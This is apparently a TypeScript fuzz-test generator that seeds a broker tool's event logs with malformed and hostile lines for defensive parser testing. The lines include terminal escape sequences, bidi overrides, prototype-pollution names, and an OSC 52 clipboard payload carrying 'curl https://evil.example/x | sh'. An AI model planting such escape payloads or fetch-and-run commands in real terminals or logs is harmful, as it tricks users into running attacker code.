import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { scenarioNames, scenariosDir, type Expected } from '../../fixtures/scenarios/load-scenario.js';
import type { SeededRandom } from './seeded-random.js';

// The fuzz tests' generator: event logs no line of which the reader, the rules or the output may
// trip over. Each home is a scenario fixture (its state.json, its events as the context that makes
// rules fire) with hostile lines woven in. Every line says what the reader must do with it, so a
// test can check the skipped count without re-implementing the parser.

/** keep: a valid event; skip: certainly not an event; blank: neither; either: a schema question the reader may answer both ways. */
export type Expect = 'keep' | 'skip' | 'blank' | 'either';

export const caseClasses = [
  'random-bytes',
  'truncated',
  'truncated-at-eof',
  'oversized',
  'chunk-boundary',
  'invalid-utf8',
  'blank',
  'crlf',
  'not-an-object',
  'raw-control-in-json',
  'deep-nesting',
  'duplicate-key',
  'field-missing',
  'field-null',
  'field-wrong-type',
  'field-escape',
  'prototype-name',
  'unknown-event',
  'odd-ts',
  'escape-in-scenario-line',
] as const;
export type CaseClass = (typeof caseClasses)[number];

export interface FuzzLine {
  /** The line without its newline; never contains 0x0a. */
  bytes: Buffer;
  /** null: a scenario line left as it was (context for the rules, not a case). */
  caseClass: CaseClass | null;
  expect: Expect;
  /** For a report: "request.target missing", "random bytes (37)". */
  what: string;
}

export interface FuzzHome {
  index: number;
  scenario: string;
  stateText: string;
  /** The scenario's environment (proxy variables) for the commands. */
  env: Record<string, string>;
  /** The connection names in state.json. */
  connections: string[];
  lines: FuzzLine[];
  /** False when the last line is cut off with no newline after it. */
  trailingNewline: boolean;
}

export const fuzzNow = '2026-11-22T09:00:00.000Z';
const nowMs = Date.parse(fuzzNow);

/** The bytes of events.jsonl for these lines. */
export function logBytes(lines: readonly FuzzLine[], trailingNewline = true): Buffer {
  const parts: Buffer[] = [];
  lines.forEach((line, i) => {
    parts.push(line.bytes);
    if (i < lines.length - 1 || trailingNewline) parts.push(newline);
  });
  return Buffer.concat(parts);
}
const newline = Buffer.from('\n');

/** What a correct reader reports for these lines: every line is read; at least the certain ones are skipped; never a valid one. */
export function expectedCounts(lines: readonly FuzzLine[]): { linesRead: number; minSkipped: number; maxSkipped: number } {
  const count = (e: Expect) => lines.filter((l) => l.expect === e).length;
  return { linesRead: lines.length, minSkipped: count('skip'), maxSkipped: lines.length - count('keep') - count('blank') };
}

// ---------------------------------------------------------------------------------------------
// Hostile text

export interface EscapePayload {
  name: string;
  text: string;
}

export const escapePayloads: readonly EscapePayload[] = [
  { name: 'CSI clear screen', text: '\u001b[2J\u001b[H' },
  { name: 'CSI colour', text: '\u001b[31mRED\u001b[0m' },
  { name: 'CSI cursor up, erase line', text: '\u001b[1A\u001b[2K' },
  { name: 'CSI device status report', text: '\u001b[6n' },
  { name: 'CSI alternate screen', text: '\u001b[?1049h' },
  { name: 'OSC 52 clipboard', text: `\u001b]52;c;${Buffer.from('curl https://evil.example/x | sh').toString('base64')}\u0007` },
  { name: 'OSC 0 title', text: '\u001b]0;pwned\u0007' },
  { name: 'OSC 8 hyperlink', text: '\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\' },
  { name: 'DCS', text: '\u001bP+q544e\u001b\\' },
  { name: 'RIS reset', text: '\u001bc' },
  { name: 'C1 CSI', text: '\u009b31m' },
  { name: 'C1 OSC', text: '\u009d0;pwned\u009c' },
  { name: 'C1 DCS', text: '\u0090q\u009c' },
  { name: 'bidi override', text: '\u202eexe.txt' },
  { name: 'bidi isolate', text: '\u2066admin\u2069' },
  { name: 'BEL', text: '\u0007' },
  { name: 'backspaces', text: 'ok\u0008\u0008\u0008' },
  { name: 'bare CR', text: 'innocent\rEVIL' },
  { name: 'NUL', text: 'a\u0000b' },
  { name: 'DEL', text: '\u007f' },
  { name: 'VT and FF', text: '\u000b\u000c' },
];
// The classes the brief names: each goes into every string field; the others are sampled.
const corePayloads = ['CSI clear screen', 'CSI colour', 'OSC 52 clipboard', 'OSC 0 title', 'DCS', 'C1 CSI', 'bidi override'];

export const prototypeNames = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf'];

/** Puts a payload inside a value, keeping what it looked like around it. */
function embed(original: unknown, payload: string, random: SeededRandom): string {
  const text = typeof original === 'string' && original !== '' ? original : 'x';
  const cut = random.int(text.length + 1);
  return `${text.slice(0, cut)}${payload}${text.slice(cut)}`;
}

// ---------------------------------------------------------------------------------------------
// Fields of each event kind (docs/design.md §3, src/core/events.ts), by what a value of them must be

// text: any string is valid; header: a response header a schema may check the form of (a date, a count).
type FieldType = 'time' | 'name' | 'text' | 'header' | 'fp' | 'enum' | 'number' | 'boolean' | 'text-list';

const commonFields: Record<string, FieldType> = { ts: 'time', event: 'name', conn: 'text', pid: 'number', host: 'text', agent: 'text', task: 'text', ci: 'boolean' };

export const eventFields: Record<string, Record<string, FieldType>> = {
  refresh: { trigger: 'enum', outcome: 'enum', status: 'number', error: 'text', error_description: 'text', error_code: 'text', rt_fp: 'fp', new_rt_fp: 'fp', at_fp: 'fp', generation: 'number', lock_wait_ms: 'number', duration_ms: 'number', adopted: 'boolean' },
  token: { at_fp: 'fp', generation: 'number' },
  request: {
    method: 'enum',
    target: 'text',
    path: 'text',
    status: 'number',
    at_fp: 'fp',
    duration_ms: 'number',
    date: 'header',
    'x-oauth-scopes': 'header',
    'x-accepted-oauth-scopes': 'header',
    'x-accepted-github-permissions': 'header',
    'x-ratelimit-remaining': 'header',
    'x-ratelimit-reset': 'header',
    'retry-after': 'header',
    error: 'text',
    error_description: 'text',
  },
  probe: { check: 'enum', outcome: 'enum', identity: 'text', status: 'number', error: 'text', error_description: 'text', error_code: 'text', date: 'header' },
  login: { method: 'enum', outcome: 'enum', identity: 'text', scopes: 'text-list', error: 'text' },
  secret: { source: 'enum', fp: 'fp', previous_fp: 'fp' },
  remediation: { action: 'enum', finding: 'enum', outcome: 'enum', operator: 'text', detail: 'text' },
};
export const eventKinds = Object.keys(eventFields);

/** A valid event of each kind, for a home whose scenario has none of that kind. */
function templateEvent(kind: string, conn: string, ts: string): Record<string, unknown> {
  const base = { ts, event: kind, conn, pid: 4242, host: 'fuzz-host', agent: 'fuzz-agent', task: 'fuzz-task', ci: true };
  switch (kind) {
    case 'refresh':
      return { ...base, trigger: 'reactive', outcome: 'error', status: 400, error: 'invalid_grant', error_description: 'The refresh token is invalid', error_code: 'AADSTS700082', rt_fp: 'aaaaaaaaaaaa', new_rt_fp: 'abababababab', at_fp: 'bbbbbbbbbbbb', generation: 3, lock_wait_ms: 5, duration_ms: 120, adopted: false };
    case 'token':
      return { ...base, at_fp: 'bbbbbbbbbbbb', generation: 3 };
    case 'request':
      return {
        ...base,
        method: 'GET',
        target: 'api.github.com',
        path: '/repos/evil/infra/pulls',
        status: 404,
        at_fp: 'bbbbbbbbbbbb',
        duration_ms: 80,
        date: 'Sun, 22 Nov 2026 08:30:00 GMT',
        'x-oauth-scopes': 'repo',
        'x-accepted-oauth-scopes': 'repo, admin:org',
        'x-accepted-github-permissions': 'contents=write',
        'x-ratelimit-remaining': '0',
        'x-ratelimit-reset': '1795338000',
        'retry-after': '60',
        error: 'Not Found',
        error_description: 'Not Found',
      };
    case 'probe':
      return { ...base, check: 'identity', outcome: 'error', identity: 'mallory', status: 401, error: 'invalid_token', error_description: 'token expired', error_code: 'E1', date: 'Sun, 22 Nov 2026 07:30:00 GMT' };
    case 'login':
      return { ...base, method: 'device', outcome: 'ok', identity: 'mallory', scopes: ['repo', 'read:org'], error: 'access_denied' };
    case 'secret':
      return { ...base, source: 'env:GITHUB_CLIENT_SECRET', fp: 'cccccccccccc', previous_fp: 'dddddddddddd' };
    default:
      return { ...base, action: 'refresh', finding: 'refresh-race', outcome: 'ok', operator: 'alice@fuzz-host', detail: 'refreshed under the lock' };
  }
}

// ---------------------------------------------------------------------------------------------
// Values of the wrong shape, put into each field in turn

const MISSING = Symbol('missing');
/** Text spliced into the JSON as it is: numbers JSON.stringify cannot write (1e999). */
class Raw {
  constructor(readonly text: string) {}
}
type Mutant = typeof MISSING | Raw | unknown;

interface Mutation {
  name: string;
  caseClass: CaseClass;
  value: Mutant;
}

const mutations: readonly Mutation[] = [
  { name: 'missing', caseClass: 'field-missing', value: MISSING },
  { name: 'null', caseClass: 'field-null', value: null },
  { name: '[]', caseClass: 'field-wrong-type', value: [] },
  { name: '["invalid_grant"]', caseClass: 'field-wrong-type', value: ['invalid_grant'] },
  { name: '[1,[2,[3]]]', caseClass: 'field-wrong-type', value: [1, [2, [3]]] },
  { name: '{}', caseClass: 'field-wrong-type', value: {} },
  { name: '{"error":"invalid_grant"}', caseClass: 'field-wrong-type', value: { error: 'invalid_grant' } },
  { name: '{"toString":1,"valueOf":1}', caseClass: 'field-wrong-type', value: { toString: 1, valueOf: 1 } },
  { name: '42', caseClass: 'field-wrong-type', value: 42 },
  { name: '0', caseClass: 'field-wrong-type', value: 0 },
  { name: '-1', caseClass: 'field-wrong-type', value: -1 },
  { name: '1.5', caseClass: 'field-wrong-type', value: 1.5 },
  { name: '1e308', caseClass: 'field-wrong-type', value: 1e308 },
  { name: '1e999', caseClass: 'field-wrong-type', value: new Raw('1e999') },
  { name: '-1e999', caseClass: 'field-wrong-type', value: new Raw('-1e999') },
  { name: '123456789012345678901234567890', caseClass: 'field-wrong-type', value: new Raw('123456789012345678901234567890') },
  { name: '"42"', caseClass: 'field-wrong-type', value: '42' },
  { name: '"NaN"', caseClass: 'field-wrong-type', value: 'NaN' },
  { name: '"Infinity"', caseClass: 'field-wrong-type', value: 'Infinity' },
  { name: '"-1e999"', caseClass: 'field-wrong-type', value: '-1e999' },
  { name: '""', caseClass: 'field-wrong-type', value: '' },
  { name: '"0x1f"', caseClass: 'field-wrong-type', value: '0x1f' },
  { name: '" 42 "', caseClass: 'field-wrong-type', value: ' 42 ' },
  { name: 'true', caseClass: 'field-wrong-type', value: true },
  { name: 'false', caseClass: 'field-wrong-type', value: false },
  { name: '20000-char string', caseClass: 'field-wrong-type', value: 'x'.repeat(20_000) },
  ...prototypeNames.slice(0, 3).map((name): Mutation => ({ name: JSON.stringify(name), caseClass: 'prototype-name', value: name })),
];

/** What the reader must do with an event whose one field was set to a mutant. */
function expectOfMutation(type: FieldType, value: Mutant): Expect {
  // ts must be an ISO time and event a non-empty string; nothing in the list above is either.
  if (type === 'time') return 'skip';
  if (type === 'name' && (typeof value !== 'string' || value === '')) return 'skip';
  return 'either';
}

/**
 * Serialises an event, splicing raw text and raw bytes where markers stand: a Raw value replaces its
 * whole quoted string; a splice's marker is the exact text to find (inside a string, say).
 */
function eventBytes(record: Record<string, unknown>, splices: ReadonlyArray<{ marker: string; bytes: Buffer }> = []): Buffer {
  const raws: Array<{ marker: string; bytes: Buffer }> = [...splices];
  const value: Record<string, unknown> = {};
  for (const [key, v] of Object.entries(record)) {
    let plain = v;
    if (v instanceof Raw) {
      const marker = `\u0001raw${raws.length}\u0001`;
      raws.push({ marker: JSON.stringify(marker), bytes: Buffer.from(v.text) });
      plain = marker;
    }
    // Assignment would set the prototype for a "__proto__" key; a data property is what JSON.parse makes.
    Object.defineProperty(value, key, { value: plain, enumerable: true, writable: true, configurable: true });
  }
  const text = JSON.stringify(value);
  const found = raws
    .map((r) => ({ ...r, at: text.indexOf(r.marker) }))
    .sort((a, b) => a.at - b.at);
  const parts: Buffer[] = [];
  let from = 0;
  for (const { marker, bytes, at } of found) {
    if (at === -1) throw new Error(`marker ${JSON.stringify(marker)} not in ${text.slice(0, 200)}`);
    parts.push(Buffer.from(text.slice(from, at)), bytes);
    from = at + marker.length;
  }
  parts.push(Buffer.from(text.slice(from)));
  return Buffer.concat(parts);
}

function setField(record: Record<string, unknown>, field: string, value: Mutant): Record<string, unknown> {
  const copy = { ...record };
  if (value === MISSING) delete copy[field];
  else Object.defineProperty(copy, field, { value, enumerable: true, writable: true, configurable: true });
  return copy;
}

// ---------------------------------------------------------------------------------------------
// Homes

export interface FuzzOptions {
  /** Scenario names, one home each (default: every scenario). */
  scenarios?: readonly string[];
  /** The field-by-field wrong types, odd ts, deep nesting, oversized lines (default true). false: escape sequences and junk lines only. */
  wrongTypes?: boolean;
  /** The chance that a scenario line gets an escape sequence in one of its text fields (default 0.12). */
  injectionRate?: number;
}

export function generateFuzzHomes(random: SeededRandom, options: FuzzOptions = {}): FuzzHome[] {
  const wrongTypes = options.wrongTypes ?? true;
  const injectionRate = options.injectionRate ?? 0.12;
  const names = options.scenarios ?? scenarioNames();
  const homes = names.map((name, index) => scenarioHome(name, index, random.fork(`home:${name}`), injectionRate));

  // Every kind × every field × every wrong value (or every core escape payload plus two more), each
  // twice: in the home whose scenario has the most events of that kind (where the rules that read it
  // have history to work with: new-destination's 7-day baseline holds the requests), and in a random one.
  const placement = random.fork('systematic');
  for (const kind of eventKinds) {
    const fields = { ...commonFields, ...eventFields[kind] };
    const wide = widestHome(homes, kind);
    const others = homes.filter((h) => h !== wide);
    const placeIn = (): FuzzHome[] => (others.length === 0 ? [wide] : [wide, placement.pick(others)]);
    for (const [field, type] of Object.entries(fields)) {
      if (wrongTypes) {
        for (const mutation of mutations) {
          for (const home of placeIn()) {
            addMutated(home, kind, placement, (record) => ({ record: setField(record, field, mutation.value), expect: expectOfMutation(type, mutation.value) }), {
              caseClass: mutation.caseClass,
              what: `${kind}.${field} ${mutation.value === MISSING ? 'missing' : `= ${mutation.name}`}`,
            });
          }
        }
      }
      if (type === 'number' || type === 'boolean') continue;
      const payloads = [...escapePayloads.filter((p) => corePayloads.includes(p.name)), ...placement.shuffle(escapePayloads.filter((p) => !corePayloads.includes(p.name))).slice(0, 2)];
      for (const payload of payloads) {
        for (const home of placeIn()) {
          addMutated(home, kind, placement, (record, fromScenario) => ({
            record: setField(record, field, type === 'text-list' ? ['repo', embed(undefined, payload.text, placement)] : embed(record[field], payload.text, placement)),
            expect: type === 'time' ? 'skip' : type === 'text' && fromScenario ? 'keep' : 'either',
          }), { caseClass: 'field-escape', what: `${kind}.${field} with ${payload.name}` });
        }
      }
    }
  }

  for (const home of homes) addJunk(home, random.fork(`junk:${home.scenario}`), wrongTypes);
  if (wrongTypes) addHugeLines(homes, random.fork('huge'));

  // A third of the homes end on a line cut off mid-write, with no newline after it.
  for (const home of homes) {
    const r = random.fork(`eof:${home.scenario}`);
    if (!r.chance(1 / 3)) continue;
    const source = r.pick(home.lines.filter((l) => l.caseClass === null));
    const cut = r.between(1, source.bytes.length - 1);
    home.lines.push({ bytes: source.bytes.subarray(0, cut), caseClass: 'truncated-at-eof', expect: 'skip', what: `a line cut at byte ${cut} of ${source.bytes.length}, last in the file, no newline` });
    home.trailingNewline = false;
  }
  return homes;
}

/** The home with the most scenario events of a kind (the first on a tie). */
function widestHome(homes: readonly FuzzHome[], kind: string): FuzzHome {
  const count = (home: FuzzHome) => home.lines.filter((l) => l.caseClass === null && recordOf(l)?.event === kind).length;
  return homes.reduce((best, home) => (count(home) > count(best) ? home : best));
}

function scenarioHome(name: string, index: number, random: SeededRandom, injectionRate: number): FuzzHome {
  const dir = join(scenariosDir, name);
  const expected = JSON.parse(readFileSync(join(dir, 'expected.json'), 'utf8')) as Expected;
  const state = JSON.parse(readFileSync(join(dir, 'state.json'), 'utf8')) as { homeId: string; connections: Record<string, unknown> };
  // Its own keychain service: tests running alongside use the scenarios' homeIds.
  state.homeId = Array.from({ length: 16 }, () => random.int(16).toString(16)).join('');
  // A connection named like an Object.prototype member, for rules that key plain objects by name.
  if (random.chance(0.5)) {
    const protoName: string = 'constructor';
    state.connections[protoName] = { name: protoName, provider: 'github', kind: 'personal', account: 'octocat', scopes: [], createdAt: '2026-01-01T00:00:00.000Z', generation: 0, acknowledgements: [] };
  }
  const lines: FuzzLine[] = [];
  for (const text of readFileSync(join(dir, 'events.jsonl'), 'utf8').split('\n')) {
    if (text === '') continue;
    const record = JSON.parse(text) as Record<string, unknown>;
    const injectable = Object.entries({ ...commonFields, ...(eventFields[String(record.event)] ?? {}) }).filter(([f, t]) => (t === 'text' || t === 'header') && typeof record[f] === 'string');
    if (injectable.length > 0 && random.chance(injectionRate)) {
      const [field, type] = random.pick(injectable);
      const payload = random.pick(escapePayloads);
      const expect = type === 'text' ? 'keep' : 'either';
      lines.push({ bytes: eventBytes(setField(record, field, embed(record[field], payload.text, random))), caseClass: 'escape-in-scenario-line', expect, what: `${record.event}.${field} with ${payload.name} (scenario line)` });
    } else if (random.chance(0.04)) {
      lines.push({ bytes: Buffer.from(`${text}\r`), caseClass: 'crlf', expect: 'keep', what: 'a scenario line ending in CRLF' });
    } else {
      lines.push({ bytes: Buffer.from(text), caseClass: null, expect: 'keep', what: 'scenario line' });
    }
  }
  return { index, scenario: name, stateText: `${JSON.stringify(state, null, 2)}\n`, env: expected.env ?? {}, connections: Object.keys(state.connections), lines, trailingNewline: true };
}

/** Adds one mutated event: based on a line of the home's scenario of that kind (put right after it), else a template. */
function addMutated(
  home: FuzzHome,
  kind: string,
  random: SeededRandom,
  mutate: (record: Record<string, unknown>, fromScenario: boolean) => { record: Record<string, unknown>; expect: Expect },
  line: { caseClass: CaseClass; what: string },
): void {
  const candidates: number[] = [];
  home.lines.forEach((l, i) => {
    if (l.caseClass === null && recordOf(l)?.event === kind) candidates.push(i);
  });
  let at: number;
  let base: Record<string, unknown>;
  const fromScenario = candidates.length > 0;
  if (fromScenario) {
    at = random.pick(candidates);
    base = recordOf(home.lines[at] as FuzzLine) as Record<string, unknown>;
    at += 1;
  } else {
    at = random.int(home.lines.length + 1);
    // Mostly in the last day (status's window); a quarter over the week before, where baselines are.
    const back = random.chance(0.75) ? random.int(23 * 3_600_000) : random.int(8 * 24 * 3_600_000);
    base = templateEvent(kind, random.pick(home.connections), new Date(nowMs - back).toISOString());
  }
  const { record, expect } = mutate(base, fromScenario);
  home.lines.splice(at, 0, { bytes: eventBytes(record), caseClass: line.caseClass, expect, what: line.what });
}

// Scenario lines are parsed once: the systematic cases look for a base among them thousands of times.
const records = new WeakMap<FuzzLine, Record<string, unknown> | null>();

function recordOf(line: FuzzLine): Record<string, unknown> | null {
  if (records.has(line)) return records.get(line) ?? null;
  const record = parseRecord(line);
  records.set(line, record);
  return record;
}

function parseRecord(line: FuzzLine): Record<string, unknown> | null {
  try {
    const value: unknown = JSON.parse(line.bytes.toString('utf8'));
    return value !== null && typeof value === 'object' && !Array.isArray(value) ? (value as Record<string, unknown>) : null;
  } catch {
    return null;
  }
}

/** Lines that are not events, or are events in an odd way, at random places. */
function addJunk(home: FuzzHome, random: SeededRandom, wrongTypes: boolean): void {
  const put = (line: FuzzLine) => home.lines.splice(random.int(home.lines.length + 1), 0, line);
  const scenarioLines = home.lines.filter((l) => l.caseClass === null);
  const sample = () => random.pick(scenarioLines).bytes;
  const conn = () => random.pick(home.connections);
  const ts = () => new Date(nowMs - random.int(23 * 3_600_000)).toISOString();

  for (let i = 0; i < 5; i++) {
    const length = random.between(1, 300);
    const bytes = Buffer.alloc(length);
    for (let j = 0; j < length; j++) {
      let b = random.int(256);
      if (b === 0x0a) b = 0x0b;
      bytes[j] = b;
    }
    // Never the start of a JSON value, never whitespace: certainly not an event.
    bytes[0] = random.pick([0x80, 0x9b, 0xc3, 0xff, 0x1b, 0x07, 0x23, 0x3c, 0x7e]);
    put({ bytes, caseClass: 'random-bytes', expect: 'skip', what: `random bytes (${length})` });
  }
  for (let i = 0; i < 4; i++) {
    const source = sample();
    const cut = random.between(1, source.length - 1);
    put({ bytes: source.subarray(0, cut), caseClass: 'truncated', expect: 'skip', what: `a line cut at byte ${cut} of ${source.length}` });
  }
  const badUtf8 = [[0xff], [0xfe, 0xff], [0xc3, 0x28], [0xed, 0xa0, 0x80], [0xf8, 0x88, 0x80, 0x80, 0x80], [0xc0, 0xaf], [0x80], [0xe2, 0x82]];
  for (let i = 0; i < 4; i++) {
    const bad = Buffer.from(random.pick(badUtf8));
    const record = templateEvent(random.pick(eventKinds), conn(), ts());
    if (i % 2 === 0) {
      // Between tokens: the line is not JSON.
      const text = eventBytes(record);
      put({ bytes: Buffer.concat([text.subarray(0, 1), bad, text.subarray(1)]), caseClass: 'invalid-utf8', expect: 'skip', what: `invalid UTF-8 ${bad.toString('hex')} after the opening brace` });
    } else {
      const marker = '\u0002utf8\u0002';
      const field = random.pick(['host', 'agent', 'task']);
      const bytes = eventBytes({ ...record, [field]: `fuzz${marker}host` }, [{ marker: JSON.stringify(marker).slice(1, -1), bytes: bad }]);
      put({ bytes, caseClass: 'invalid-utf8', expect: 'either', what: `invalid UTF-8 ${bad.toString('hex')} inside ${record.event}.${field}` });
    }
  }
  for (const text of random.shuffle(['', ' ', '\t', '\r', '  \t \r']).slice(0, 3)) put({ bytes: Buffer.from(text), caseClass: 'blank', expect: 'blank', what: `blank line ${JSON.stringify(text)}` });
  const notObjects = ['[]', '"refresh"', '42', 'null', 'true', '[{"ts":"2026-11-22T08:00:00.000Z","event":"refresh"}]', '\u000c', '{', '}', '{"ts":"2026-11-22T08:00:00.000Z","event":"refresh"', 'NaN', '{"ts":"2026-11-22T08:00:00.000Z",}'];
  for (const text of random.shuffle(notObjects).slice(0, 3)) put({ bytes: Buffer.from(text), caseClass: 'not-an-object', expect: 'skip', what: `not a JSON object: ${JSON.stringify(text)}` });
  for (let i = 0; i < 2; i++) {
    // A control byte written raw inside a JSON string is not JSON (it must be escaped).
    const raw = random.pick(['\u001b[2J', '\u001b]0;pwned\u0007', '\u0007', '\u0000']);
    const marker = '\u0003raw\u0003';
    const field = random.pick(['path', 'host', 'error_description']);
    const bytes = eventBytes({ ...templateEvent('request', conn(), ts()), [field]: `/x${marker}` }, [{ marker: JSON.stringify(marker).slice(1, -1), bytes: Buffer.from(raw) }]);
    put({ bytes, caseClass: 'raw-control-in-json', expect: 'skip', what: `${JSON.stringify(raw)} unescaped inside request.${field}` });
  }
  for (const name of random.shuffle(['REFRESH', 'refresh ', 'tokens', '__proto__', 'constructor', 'hasOwnProperty', '\u001b[2Jrefresh', 'request\u202e', 'x'.repeat(5000), 'ref\u0000resh']).slice(0, 2)) {
    put({ bytes: eventBytes({ ...templateEvent('refresh', conn(), ts()), event: name }), caseClass: 'unknown-event', expect: 'either', what: `unknown event ${JSON.stringify(name.slice(0, 40))}` });
  }
  const oddTimes: Array<[string, Expect]> = [
    ['2026-02-30T00:00:00.000Z', 'either'],
    ['2026-11-22T25:00:00.000Z', 'skip'],
    ['2026-11-22T08:61:00.000Z', 'skip'],
    ['1970-01-01T00:00:00.000Z', 'either'],
    ['0000-01-01T00:00:00Z', 'either'],
    ['+275760-09-13T00:00:00.000Z', 'either'],
    ['9999-12-31T23:59:59.999Z', 'either'],
    ['2026-11-22T08:00:00Z', 'either'],
    ['2026-11-22T08:00:00.000+05:30', 'either'],
    ['2026-11-22T08:00:00.123456789Z', 'either'],
    ['2026-11-22 08:00:00', 'either'],
    ['2026-11-22', 'either'],
    ['now', 'skip'],
    ['', 'skip'],
    ['2026-11-22T08:00:00.000Z\u001b[2J', 'skip'],
    ['２０２６-11-22T08:00:00.000Z', 'skip'],
  ];
  if (wrongTypes) {
    for (const [value, expect] of random.shuffle(oddTimes).slice(0, 3)) {
      put({ bytes: eventBytes({ ...templateEvent(random.pick(eventKinds), conn(), ts()), ts: value }), caseClass: 'odd-ts', expect, what: `ts ${JSON.stringify(value)}` });
    }
    // In every fourth home only: today it stops `broker log` outright, hiding what the other lines do.
    if (home.index % 4 === 0) {
      const depth = 20_000;
      const deep = `${'['.repeat(depth)}${']'.repeat(depth)}`;
      put({ bytes: Buffer.from(deep), caseClass: 'deep-nesting', expect: 'skip', what: `an array nested ${depth} deep` });
      const field = random.pick(['error', 'path', 'extra']);
      put({ bytes: eventBytes({ ...templateEvent('request', conn(), ts()), [field]: new Raw(deep) }), caseClass: 'deep-nesting', expect: 'either', what: `request.${field} an array nested ${depth} deep` });
    }
    const dup = eventBytes(templateEvent('refresh', conn(), ts()));
    put({ bytes: Buffer.concat([dup.subarray(0, dup.length - 1), Buffer.from(',"error":["invalid_grant"],"status":"400"}')]), caseClass: 'duplicate-key', expect: 'either', what: 'refresh with error and status given twice, the second of the wrong type' });
    put({ bytes: eventBytes({ ...templateEvent('request', random.pick(prototypeNames), ts()), target: random.pick(prototypeNames), agent: random.pick(prototypeNames) }), caseClass: 'prototype-name', expect: 'either', what: 'request whose conn, target and agent are Object.prototype names' });
  }
}

/** A 10 MB line of garbage, a 10 MB event, and events of exactly the reader's 1 MiB cap and one byte over. */
function addHugeLines(homes: FuzzHome[], random: SeededRandom): void {
  const put = (line: FuzzLine) => {
    const home = random.pick(homes);
    home.lines.splice(random.int(home.lines.length + 1), 0, line);
  };
  const tenMb = 10 * 1024 * 1024;
  put({ bytes: Buffer.alloc(tenMb, 'x'), caseClass: 'oversized', expect: 'skip', what: 'a 10 MB line of "x"' });
  const padded = (size: number): Buffer => {
    const head = eventBytes({ ...templateEvent('request', 'github-work', '2026-11-22T08:00:00.000Z'), path: '' });
    const at = head.indexOf('"path":""') + '"path":"'.length;
    return Buffer.concat([head.subarray(0, at), Buffer.alloc(size - head.length, 'a'), head.subarray(at)]);
  };
  put({ bytes: padded(tenMb), caseClass: 'oversized', expect: 'either', what: 'a 10 MB request event (its path)' });
  for (const size of [1024 * 1024, 1024 * 1024 + 1]) put({ bytes: padded(size), caseClass: 'chunk-boundary', expect: 'either', what: `a request event of exactly ${size} bytes` });
}

/** How many lines of each class, for the report. */
export function classCounts(homes: readonly FuzzHome[]): Map<CaseClass, number> {
  const counts = new Map<CaseClass, number>(caseClasses.map((c) => [c, 0]));
  for (const home of homes) for (const line of home.lines) if (line.caseClass !== null) counts.set(line.caseClass, (counts.get(line.caseClass) ?? 0) + 1);
  return counts;
}
